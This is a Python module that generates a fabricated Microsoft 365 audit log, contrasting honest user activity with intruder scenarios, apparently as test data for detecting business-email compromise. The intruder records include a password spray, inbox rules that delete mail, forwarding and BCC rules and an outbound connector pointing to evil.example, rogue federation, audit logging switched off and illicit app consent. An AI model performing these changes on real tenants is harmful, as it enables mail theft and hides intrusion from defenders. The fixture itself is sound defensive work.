"""A small tenant of Microsoft 365 that never was: its audit log record by record, honest days and what an intruder adds.

Times are UTC, as minutes after midnight of a day in March 2026.
"""

import csv
import io
import json
import random
from datetime import datetime, timedelta, timezone

DOMAIN, OFFICE, STRANGER, HOTEL = "contoso.example", "192.0.2.70", "185.220.101.7", "45.83.12.9"
PEOPLE = ["ana", "bao", "cleo", "dirk", "elsa", "finn", "gita", "hugo"]
LAST = 17
EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/122.0 Safari/537.36 Edg/122.0"
INSIDE = "2603:10a6:803:50:cafe::41"


def moment(minutes, day=LAST):
    return datetime(2026, 3, day, tzinfo=timezone.utc) + timedelta(minutes=minutes)


def home(person):
    return f"88.120.{PEOPLE.index(person)}.44"


def upn(person):
    return f"{person}@{DOMAIN}"


class Tenant:
    def __init__(self, days=8):
        self.records, self.random, self.serial = [], random.Random(11), 0
        for day in range(LAST - days, LAST + 1):
            self.usual_day(day)

    # --- records -------------------------------------------------------------------------------------

    def put(self, when, operation, person, workload, kind, result="Succeeded", **more):
        self.serial += 1
        record = {"CreationTime": when.strftime("%Y-%m-%dT%H:%M:%S"), "Id": f"00000000-0000-4000-8000-{self.serial:012d}",
                  "Operation": operation, "OrganizationId": "7e0c0000-0000-4000-8000-000000000001", "RecordType": kind,
                  "UserKey": "1003", "UserType": 0, "Version": 1, "Workload": workload,
                  "UserId": upn(person) if "@" not in person else person}
        if result:
            record["ResultStatus"] = result
        self.records.append((when, self.serial, {**record, **more}))

    def sign_in(self, when, person, source, session=None):
        self.put(when, "UserLoggedIn", person, "AzureActiveDirectory", 15, "Success", ClientIP=source, ActorIpAddress=source,
                 SessionId=session or f"s-{person}-{when:%m%d}", AzureActiveDirectoryEventType=1,
                 ExtendedProperties=[{"Name": "UserAgent", "Value": EDGE}, {"Name": "RequestType", "Value": "OAuth2:Authorize"}])

    def refuse(self, when, person, source, error="50126", why="InvalidUserNameOrPassword"):
        self.put(when, "UserLoginFailed", person, "AzureActiveDirectory", 15, "Failed", ClientIP=source, ActorIpAddress=source,
                 ErrorNumber=error, LogonError=why)

    def access(self, when, person, source, names=(), folder="Inbox", sync=False, throttled=False, client="Client=OWA;Action=ViaProxy",
               session=None, owner=None, **more):
        properties = [{"Name": "MailAccessType", "Value": "Sync" if sync else "Bind"},
                      {"Name": "IsThrottled", "Value": str(throttled)}]
        what = {"Item": {"Id": "LgAAAA", "ParentFolder": {"Id": "LgAAAA", "Name": folder, "Path": "\\" + folder}}} if sync else {
            "Folders": [{"Id": "LgAAAA", "Path": "\\" + folder, "FolderItems": [
                {"InternetMessageId": f"<{n}@mail.{DOMAIN}>", "SizeInBytes": 4000} for n in names]}],
            "OperationCount": len(names)}
        if session:
            more["SessionId"] = session
        self.put(when, "MailItemsAccessed", person, "Exchange", 2 if sync else 50, ClientIPAddress=source, ClientInfoString=client,
                 LogonType=0 if owner in (None, person) else 2, InternalLogonType=0, ExternalAccess=False,
                 MailboxOwnerUPN=upn(owner or person), OperationProperties=properties, OrganizationName=DOMAIN, **what, **more)

    def index(self, when, person):
        """Microsoft's own service reads what has come in."""
        self.access(when, person, INSIDE, [f"new-{person}-{when:%d%H%M}-{k}" for k in range(6)],
                    client="Client=REST;Client=RESTSystem;;", AppId="b6e65498-8dce-4d57-8de9-1269fcfcf6ce",
                    ClientAppId="3c8e478f-21ca-493a-b87c-c7366d664d54")

    def cmdlet(self, when, operation, person, source, **parameters):
        self.put(when, operation, person, "Exchange", 1, "True", ClientIP=f"{source}:40022" if source else "", UserType=2,
                 ObjectId=f"EURPR04A009.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/{DOMAIN}/{person}",
                 Parameters=[{"Name": k, "Value": str(v)} for k, v in parameters.items()])

    def directory(self, when, operation, person, **changed):
        self.put(when, operation, person, "AzureActiveDirectory", 8, "Success", ObjectId="f432adf3",
                 ModifiedProperties=[{"Name": k.replace("__", "."), "NewValue": v, "OldValue": ""} for k, v in changed.items()])

    def send(self, when, person, source, name, subject, to=None, **more):
        self.put(when, "Send", person, "Exchange", 2, ClientIPAddress=source, MailboxOwnerUPN=upn(person), LogonType=0,
                 ClientInfoString="Client=OWA;Action=ViaProxy", Item={
                     "Id": "x", "InternetMessageId": f"<{name}@mail.{DOMAIN}>", "Subject": subject, "SizeInBytes": 70000,
                     "ParentFolder": {"Id": "x", "Path": "\\Drafts"}}, **more)

    # --- days ----------------------------------------------------------------------------------------

    def usual_day(self, day):
        for n, person in enumerate(PEOPLE):
            at = self.random.randrange(460, 540)
            self.sign_in(moment(at, day), person, OFFICE)
            for k in range(self.random.randrange(2, 6)):
                self.access(moment(at + 3 + 40 * k, day), person, OFFICE,
                            [f"{person}-{day}-{k}-{i}" for i in range(self.random.randrange(1, 6))])
            self.index(moment(at - 200, day), person)
            self.send(moment(at + 100, day), person, OFFICE, f"sent-{person}-{day}", "Minutes")
            self.sign_in(moment(1140 + n * 4, day), person, home(person))
            self.access(moment(1145 + n * 4, day), person, home(person), [f"{person}-{day}-e"])
            if n == 3:
                self.refuse(moment(at - 2, day), person, OFFICE)
            if n == 4:      # "keep me signed in": an interrupt, and no guess
                self.refuse(moment(at - 1, day), person, OFFICE, "50140", "KmsiInterrupt")
        self.cmdlet(moment(300, day), "Set-AdminAuditLogConfig", "NT AUTHORITY\\SYSTEM (Microsoft.Exchange.ServiceHost)@x", None,
                    AdminAuditLogEnabled=True)

    # --- files ---------------------------------------------------------------------------------------

    def sorted(self):
        return [record for _, _, record in sorted(self.records, key=lambda r: r[:2])]

    def lines(self):
        return "".join(json.dumps(r) + "\n" for r in self.sorted())

    def array(self):
        return json.dumps(self.sorted(), indent=2)

    def table(self):
        text = io.StringIO()
        rows = csv.writer(text, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
        rows.writerow(["RecordType", "CreationDate", "UserIds", "Operations", "AuditData", "ResultIndex", "ResultCount", "Identity"])
        for i, r in enumerate(self.sorted()):
            rows.writerow([r["RecordType"], r["CreationTime"] + "Z", r["UserId"], r["Operation"], json.dumps(r), i, 5000, r["Id"]])
        return text.getvalue()


# --- what intruders do ------------------------------------------------------------------------------------------------

def spray(t):
    for k, person in enumerate(PEOPLE):
        t.refuse(moment(600 + k), person, STRANGER)
    t.sign_in(moment(620), "gita", STRANGER, "s-evil")
    t.access(moment(622), "gita", STRANGER, [f"secret-{k}" for k in range(12)], session="s-evil")


def inside(t, person="elsa"):
    t.sign_in(moment(130), person, STRANGER, "s-evil")


def hiding_rule(t):
    inside(t)
    t.access(moment(131), "elsa", STRANGER, ["secret-0", "secret-1"])
    t.cmdlet(moment(133), "New-InboxRule", "elsa", STRANGER, Name=".", SubjectOrBodyContainsWords="invoice;payment",
             DeleteMessage=True, StopProcessingRules=True)


def forwarding(t):
    inside(t)
    t.cmdlet(moment(135), "Set-Mailbox", "elsa", STRANGER, Identity="elsa", ForwardingSmtpAddress="smtp:box@evil.example",
             DeliverToMailboxAndForward=True)


def transport(t):
    inside(t)
    t.cmdlet(moment(136), "New-TransportRule", "elsa", STRANGER, Name="x", BlindCopyTo="box@evil.example")


def delegation(t):
    inside(t)
    t.cmdlet(moment(136), "Add-MailboxPermission", "elsa", STRANGER, Identity="ana", User="elsa", AccessRights="FullAccess")
    t.access(moment(140), "elsa", STRANGER, ["ana-secret"], owner="ana", session="s-evil")


def consent(t):
    t.directory(moment(650), "Consent to application.", "finn", ConsentContext__OnBehalfOfAll="False",
                ConsentAction__Permissions="[] => [[Id: a, ClientId: b, ConsentType: Principal, Scope: offline_access Mail.Read "
                                           "Mail.Send, CreatedDateTime: ]]; ")


def consent_for_all(t):
    """No refresh token is asked for: whoever uses the application lends it his mailbox, each time anew."""
    t.directory(moment(650), "Consent to application.", "finn", ConsentContext__OnBehalfOfAll="True", ConsentContext__IsAdminConsent="True",
                ConsentAction__Permissions="[] => [[Id: a, ClientId: b, ConsentType: AllPrincipals, Scope: Mail.Read, CreatedDateTime: ]]; ")


def application(t, day, app):
    for k, person in enumerate(PEOPLE):
        t.access(moment(650 + k, day), person, "20.190.160.5", [f"{person}-{day}-app-{i}" for i in range(6)],
                 client="Client=REST;Client=RESTSystem;;", AppId=app)


def application_in_eight_mailboxes(t):
    application(t, LAST, "11112222-3333-4444-5555-666677778888")


def send_as(t, when, person, source, owner, name):
    t.put(when, "SendAs", person, "Exchange", 2, ClientIPAddress=source, MailboxOwnerUPN=upn(owner), LogonType=2, SendAsUserSmtp=upn(owner),
          ClientInfoString="Client=OWA;Action=ViaProxy", Item={
              "Id": "x", "InternetMessageId": f"<{name}@mail.{DOMAIN}>", "Subject": "Invoice", "SizeInBytes": 7000,
              "ParentFolder": {"Id": "x", "Path": "\\Drafts"}})


def sends_as_another(t):
    inside(t)
    send_as(t, moment(135), "elsa", STRANGER, "ana", "invoice")


def mail_program(t):
    """The owner lets Thunderbird in, from the office."""
    t.directory(moment(650), "Consent to application.", "finn", ConsentContext__OnBehalfOfAll="False",
                ConsentAction__Permissions="[] => [[Id: a, ClientId: b, ConsentType: Principal, Scope: offline_access "
                                           "IMAP.AccessAsUser.All SMTP.Send, CreatedDateTime: ]]; ",
                TargetId__ServicePrincipalNames="9e5f94bc-e8a4-4e73-b8be-63364c29d753")


def bulk(t):
    inside(t)
    for k in range(12):
        t.access(moment(131 + k), "elsa", STRANGER, [f"secret-{k}-{i}" for i in range(12)])


def bulk_throttled(t):
    bulk(t)
    t.access(moment(150), "elsa", STRANGER, ["last"], throttled=True)


def synchronised(t):
    hiding_rule(t)
    t.access(moment(134), "elsa", STRANGER, folder="Inbox", sync=True, client="Client=MSExchangeRPC")


def outlook_rule(t, when, operation, person, source, name, actions):
    """As Outlook and OWA tell it: what the rule does stands as JSON in a text."""
    properties = {"RuleOperation": operation, "RuleId": "-6543", "RuleState": "Enabled, ExitAfterExecution",
                  "RuleCondition": "((ContainsString hacked))", "RuleName": name, "RuleProvider": "RuleOrganizer",
                  "RuleActions": json.dumps(actions)}
    t.put(when, "UpdateInboxRules", person, "Exchange", 2, ClientIPAddress=source, MailboxOwnerUPN=upn(person), LogonType=0,
          ClientInfoString="Client=OWA;Action=ViaProxy", OperationProperties=[{"Name": k, "Value": v} for k, v in properties.items()])


def rule_in_outlook(t):
    inside(t)
    outlook_rule(t, moment(135), "AddMailboxRule", "elsa", STRANGER, "..", [{"ActionType": "Delete"}])


def inbox_for_all(t):
    inside(t)
    t.put(moment(135), "AddFolderPermissions", "elsa", "Exchange", 2, ClientIPAddress=STRANGER, MailboxOwnerUPN=upn("elsa"), Item={
        "ParentFolder": {"Path": "\\Inbox", "Name": "Inbox", "MemberRights": "ReadAny, Visible", "MemberSid": "S-1-1-0",
                         "MemberUpn": "Everyone"}})


def secret_of_an_application(t):
    inside(t)
    t.directory(moment(136), "Add service principal credentials.", "elsa", KeyDescription="[KeyType=Password]")


def federation(t):
    inside(t)
    t.directory(moment(136), "Set federation settings on domain.", "elsa", IssuerUri="http://evil.example")


def connector(t):
    inside(t)
    t.cmdlet(moment(136), "New-OutboundConnector", "elsa", STRANGER, Name="c", SmartHosts="mx.evil.example", RecipientDomains="*")


def auditing_off(t):
    inside(t)
    t.cmdlet(moment(136), "Set-AdminAuditLogConfig", "elsa", STRANGER, UnifiedAuditLogIngestionEnabled=False)


def export(t):
    inside(t)
    t.cmdlet(moment(136), "New-MailboxExportRequest", "elsa", STRANGER, Mailbox="ana", FilePath="x.pst")


def role_of_an_application(t):
    t.directory(moment(136), "Add app role assignment to service principal.", "elsa", AppRole__Value="Mail.Read",
                ServicePrincipal__DisplayName="sync")


# --- and honest people --------------------------------------------------------------------------------------------------

def traveller(t):
    t.sign_in(moment(1200), "bao", HOTEL)
    t.access(moment(1201), "bao", HOTEL, [f"bao-hotel-{k}" for k in range(9)])


def files_newsletters(t):
    t.cmdlet(moment(600), "New-InboxRule", "cleo", OFFICE, Name="Newsletters", From="news@shop.example", MoveToFolder="Newsletters")


def shares_a_calendar(t):
    t.put(moment(600), "AddFolderPermissions", "cleo", "Exchange", 2, ClientIPAddress=OFFICE, MailboxOwnerUPN=upn("cleo"),
          Item={"ParentFolder": {"Path": "\\Calendar", "MemberUpn": upn("dirk"), "MemberRights": "FreeBusySimple"}})


def lets_an_application_know_his_name(t):
    t.directory(moment(650), "Consent to application.", "finn",
                ConsentAction__Permissions="[] => [[Id: a, ConsentType: Principal, Scope: openid profile User.Read]]; ")


def a_quiet_day(t):
    pass


def takes_a_rule_away(t):
    outlook_rule(t, moment(600), "RemoveMailboxRule", "cleo", OFFICE, "..", [{"ActionType": "Delete"}])


def runs_the_tenant(t):
    """An administrator's day: a role, a secret, a connector, rights, auditing switched on."""
    t.directory(moment(600), "Add member to role.", "hugo", Role__DisplayName="Exchange Administrator")
    t.directory(moment(601), "Add service principal credentials.", "hugo", KeyDescription="[KeyType=Password]")
    t.cmdlet(moment(602), "Set-OutboundConnector", "hugo", OFFICE, Identity="c", SmartHosts="mx.filter.example")
    t.cmdlet(moment(603), "Add-MailboxPermission", "hugo", OFFICE, Identity="ana", User="bao", AccessRights="FullAccess")
    t.cmdlet(moment(604), "Set-AdminAuditLogConfig", "hugo", OFFICE, UnifiedAuditLogIngestionEnabled=True)


def shares_a_calendar_abroad(t):
    t.sign_in(moment(1200), "bao", HOTEL)
    t.put(moment(1205), "AddFolderPermissions", "bao", "Exchange", 2, ClientIPAddress=HOTEL, MailboxOwnerUPN=upn("bao"), Item={
        "ParentFolder": {"Path": "\\Calendar", "MemberUpn": upn("dirk"), "MemberRights": "ReadAny, FreeBusyDetailed"}})


def writes_for_her_director(t):
    """Every day from the office, and once on a journey."""
    for day in range(LAST - 6, LAST):
        send_as(t, moment(600, day), "cleo", OFFICE, "ana", f"for-ana-{day}")
    t.sign_in(moment(1200), "cleo", HOTEL)
    send_as(t, moment(1205), "cleo", HOTEL, "ana", "for-ana-abroad")


def archive_of_all(t):
    """An application reads for everybody, every day, since before these records."""
    for day in range(LAST - 8, LAST + 1):
        application(t, day, "99992222-3333-4444-5555-666677778888")


def exchange_makes_a_group(t):
    t.put(moment(600), "ModifyFolderPermissions", "S-1-5-18@x", "Exchange", 2, ClientIPAddress="::1", LogonType=1,
          ClientInfoString="Client=WebServices;Action=ConfigureGroupMailbox", MailboxOwnerUPN="team@contoso.example", Item={
              "ParentFolder": {"Path": "\\Calendar", "MemberUpn": "Owner@local", "MemberRights": "ReadAny, EditAny"}})
    t.records[-1][2]["UserId"] = "S-1-5-18"
